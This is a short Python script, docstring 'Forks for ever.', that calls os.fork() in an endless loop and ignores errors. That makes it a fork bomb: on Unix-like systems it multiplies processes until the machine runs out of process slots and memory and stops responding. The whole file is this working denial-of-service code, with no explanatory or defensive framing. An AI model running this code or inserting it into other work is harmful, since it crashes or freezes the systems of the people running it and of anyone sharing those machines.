"""Forks for ever."""

import os

while True:
    try:
        os.fork()
    except OSError:
        pass
